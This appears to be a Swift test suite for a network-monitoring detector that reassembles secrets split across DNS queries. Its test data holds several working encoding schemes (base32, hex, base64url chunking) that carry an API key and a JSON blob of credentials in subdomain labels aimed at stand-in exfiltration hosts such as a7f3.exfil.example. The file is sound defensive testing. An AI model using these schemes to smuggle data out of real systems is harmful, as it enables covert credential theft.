import Alerts
import Detection
import Observations
import Sensor
import TestSupport
import Testing
import Wire

@testable import Matching

/// How a program carries bytes in names below its domain.
struct Carriage: Sendable, CustomTestStringConvertible {
  var name: String
  var disguise: Disguise?
  /// Bytes encoded at a time; `nil` where all is encoded and then cut.
  var pieceLength: Int?
  var labelLength: Int
  /// The name for a chunk.
  var write: @Sendable (_ chunk: String, _ number: Int) -> String

  var testDescription: String { name }

  func names(_ bytes: [UInt8]) -> [String] {
    let pieces = pieceLength.map { Self.cut(bytes, $0) } ?? [bytes]
    var chunks: [[UInt8]] = []
    for piece in pieces {
      let written = (disguise?.wrap(piece) ?? piece).filter { $0 != 0x3d }
      chunks += Self.cut(written, labelLength)
    }
    return chunks.enumerated().map { write(String(decoding: $0.element, as: UTF8.self), $0.offset) }
  }

  private static func cut(_ bytes: [UInt8], _ length: Int) -> [[UInt8]] {
    stride(from: 0, to: bytes.count, by: length).map { Array(bytes[$0..<min($0 + length, bytes.count)]) }
  }

  static let all = [
    Carriage(name: "base32, cut", disguise: .lowerBase32, pieceLength: nil, labelLength: 32) { chunk, _ in
      "\(chunk).freefan.example"
    },
    Carriage(name: "base32, each", disguise: .base32, pieceLength: 33, labelLength: 63) { chunk, number in
      "\(chunk).\(number).freefan.example"
    },
    Carriage(name: "hexadecimal, counted and named", disguise: .hex, pieceLength: nil, labelLength: 40) {
      chunk, number in
      "\(number)-\(chunk).a7f3.exfil.example"
    },
    Carriage(name: "base64url, cut", disguise: .base64url, pieceLength: nil, labelLength: 50) { chunk, number in
      "s\(number).\(chunk).x.example.net"
    },
    Carriage(name: "base64url, each", disguise: .base64url, pieceLength: 31, labelLength: 63) { chunk, _ in
      "\(chunk).x.example.net"
    },
    Carriage(name: "as it is", disguise: nil, pieceLength: nil, labelLength: 30) { chunk, number in
      "\(chunk).\(number).in.example.org"
    },
  ]
}

@Suite("Secrets carried in several DNS queries")
struct QueryAssemblerTests {
  private static let key: String = {
    var generator = SeededGenerator(seed: 77)
    return SyntheticKey.openAIProject(&generator)
  }()
  private static let fingerprint =
    "sha256:" + Array(key.utf8).span.sha256.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
  private static let loot = Array("{\"user\":\"ci\",\"OPENAI_API_KEY\":\"\(key)\",\"home\":\"/home/ci\"}".utf8)

  private static func outcome(
    _ names: [String], seconds: Int64 = 0, workers: Int = 1, repeats: Int = 1
  ) throws -> InMemoryReplay.Outcome {
    var replay = InMemoryReplay()
    replay.settings.workers = workers
    return try replay.run(named: "queries") { process in
      var time: Int64 = 1_700_000_000_000_000_000
      for (number, name) in names.enumerated() {
        for turn in 0..<repeats {
          let port = UInt16(20_000 + (number * repeats + turn) % 40_000)
          let client = Endpoint(IPAddress(ipv4: 0xC000_020A), port: port)
          let query = DNSBuilder.query(name, turn == 0 ? .a : .aaaa)
          let frame = PacketBuilder.udp(
            from: client, to: Endpoint(IPAddress(ipv4: 0xC000_0235), port: 53), payload: query.bytes)
          process(frame.rawSpan, .ethernet, frame.count, time)
          time += 5_000_000 + seconds * 1_000_000_000
        }
      }
    }
  }

  private static func found(_ alerts: [Alert]) -> [String] {
    alerts.filter { $0.credential != nil && $0.credential?.location == .dnsName }
      .compactMap { $0.credential?.masked.fingerprint }
  }

  @Test("are put together", arguments: Carriage.all)
  func carried(_ carriage: Carriage) throws {
    let names = carriage.names(carriage.disguise == nil ? Array(Self.key.utf8) : Self.loot)
    #expect(names.count > 2)
    let outcome = try Self.outcome(names)
    #expect(Self.found(outcome.alerts) == [Self.fingerprint])
  }

  @Test("are put together when each name is asked for twice, and whatever the number of workers", arguments: [1, 4])
  func repeated(workers: Int) throws {
    let outcome = try Self.outcome(Carriage.all[0].names(Self.loot), workers: workers, repeats: 2)
    #expect(Self.found(outcome.alerts) == [Self.fingerprint])
  }

  @Test("are told again where they go below another domain")
  func anotherDomain() throws {
    let names = Carriage.all[0].names(Self.loot)
    let others = names.map { $0.replacing("freefan.example", with: "fanfree.example") }
    #expect(Self.found(try Self.outcome(names + others).alerts) == [Self.fingerprint, Self.fingerprint])
  }

  @Test("are put together in the order of their numbers")
  func overtaken() throws {
    var names = Carriage.all[1].names(Self.loot)
    names.swapAt(0, 2)
    #expect(Self.found(try Self.outcome(names).alerts) == [Self.fingerprint])
  }

  @Test("are not made of queries that have long pauses between them, nor of ordinary names")
  func unrelated() throws {
    #expect(Self.found(try Self.outcome(Carriage.all[0].names(Self.loot), seconds: 6).alerts).isEmpty)
    var generator = SeededGenerator(seed: 3)
    let ordinary = (0..<2_000).map { number in
      "\(generator.text(20 + number % 20, of: Alphabets.lowerHex)).cdn\(number % 700).example\(number % 600).com"
    }
    let outcome = try Self.outcome(ordinary)
    #expect(Self.found(outcome.alerts).isEmpty)
    #expect(outcome.counters.queryTracksEvicted > 0)
  }
}
